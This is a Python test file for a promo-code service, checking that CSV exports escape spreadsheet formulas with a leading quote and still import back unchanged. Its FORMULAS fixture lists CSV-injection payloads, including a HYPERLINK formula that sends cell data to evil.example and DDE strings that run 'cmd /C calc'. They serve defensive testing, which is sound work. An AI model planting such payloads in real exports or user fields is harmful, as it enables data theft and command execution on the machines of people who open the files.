"""A CSV export is safe to open in a spreadsheet: a cell that would run as a formula
starts with a single quote (OWASP, CSV injection), and the export imports back unchanged."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from collections.abc import AsyncIterator
from datetime import UTC, datetime

import httpx
import pytest

from shared.domain.model import Code
from shared.domain.states import CodeState
from shared.runtime.settings import Settings
from tests.fakes import FakeStore
from tests.unit.intake_harness import RecordingBroker, intake_client

NOW = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)
ADMIN = {"Authorization": "Bearer admin-key"}
SETTINGS = Settings(api_keys="admin-key=admin", context_secret="secret")
# Users who redeemed a code, as a spreadsheet would take them: formulas all.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
async def store() -> FakeStore:
    return FakeStore()


@pytest.fixture
async def api(store: FakeStore) -> AsyncIterator[httpx.AsyncClient]:
    async with intake_client(store, RecordingBroker(), SETTINGS, lambda: NOW) as (client, _):
        await client.post("/v1/campaigns", json={"codeType": "gems"}, headers=ADMIN)
        yield client


async def redeemed_by(store: FakeStore, n: int, user: str) -> None:
    code = Code(f"id-{n}", "gems", f"R{n}", CodeState.REDEEMED, NOW, NOW)
    await store.add_code(dataclasses.replace(code, redeemed_by_user_id=user))


async def export(api: httpx.AsyncClient) -> list[dict[str, str]]:
    answer = await api.get("/v1/campaigns/gems/codes/export", headers=ADMIN)
    assert answer.status_code == 200
    return list(csv.DictReader(io.StringIO(answer.text)))


async def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote(
    api: httpx.AsyncClient, store: FakeStore
) -> None:
    for n, user in enumerate(FORMULAS):
        await redeemed_by(store, n, user)
    hyphenated = {"scanCode": "-A1", "customCodeInfo": {"note": "=1+1"}}
    assert (await api.post("/v1/campaigns/gems/codes", json=hyphenated, headers=ADMIN)).is_success

    rows = {row["scanCode"]: row for row in await export(api)}

    users = [rows[f"R{n}"]["redeemedByUserId"] for n in range(len(FORMULAS))]
    assert users == ["'" + user for user in FORMULAS]
    assert "'-A1" in rows, "a scan code starting with a hyphen is quoted too"
    info = rows["'-A1"]["customCodeInfo"]
    assert json.loads(info) == {"note": "=1+1"}, "a JSON object starts with '{': left as is"
    assert rows["'-A1"]["version"] == "1" and rows["'-A1"]["codeState"] == "Inactive"


async def test_a_quoted_export_imports_back_unchanged(api: httpx.AsyncClient) -> None:
    for scan in ("-A1", "-B2", "PLAIN"):
        added = await api.post("/v1/campaigns/gems/codes", json={"scanCode": scan}, headers=ADMIN)
        assert added.is_success
    exported = await api.get("/v1/campaigns/gems/codes/export", headers=ADMIN)

    again = await api.post(
        "/v1/campaigns/gems/codes/import", content=exported.content, headers=ADMIN
    )

    assert (again.json()["unchanged"], again.json()["added"], again.json()["rejected"]) == (3, 0, 0)
    assert (await api.get("/v1/campaigns/gems/codes/-A1", headers=ADMIN)).json()[
        "scanCode"
    ] == "-A1"


async def test_an_ndjson_export_is_left_as_it_is(api: httpx.AsyncClient, store: FakeStore) -> None:
    await redeemed_by(store, 0, FORMULAS[0])
    answer = await api.get(
        "/v1/campaigns/gems/codes/export", params={"format": "ndjson"}, headers=ADMIN
    )
    [record] = [json.loads(line) for line in answer.text.splitlines()]
    assert record["redeemedByUserId"] == FORMULAS[0]
